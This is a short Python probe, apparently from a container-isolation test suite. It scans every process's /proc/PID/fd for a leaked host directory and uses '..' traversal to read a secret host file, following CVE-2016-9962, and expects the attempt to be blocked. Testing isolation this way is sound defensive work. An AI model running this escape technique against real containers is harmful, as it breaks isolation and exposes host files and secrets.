# attempt: Looks through /proc/PID/fd of every process for a directory from which `..` leads to a host file.
# known-from: CVE-2016-9962 (a process that entered a container brought a directory of the host)
# held-by: pid namespace, launcher
# must: held
# needs: secret victim
# control: bare
import os

why = "there is nobody else"
for pid in sorted((name for name in os.listdir("/proc") if name.isdigit()), key=int):
    if int(pid) == os.getpid():
        continue
    try:
        for fd in os.listdir(f"/proc/{pid}/fd"):
            path = f"/proc/{pid}/fd/{fd}"
            if os.path.isdir(path):
                with open(f"{path}/../../../../../..{os.environ['ESCAPE_SECRET']}") as file:
                    print(f"escaped: {path}: {file.read()}")
                    raise SystemExit
    except OSError as error:
        why = f"/proc/{pid}/fd: {error.strerror}"
print(f"held: {why}")
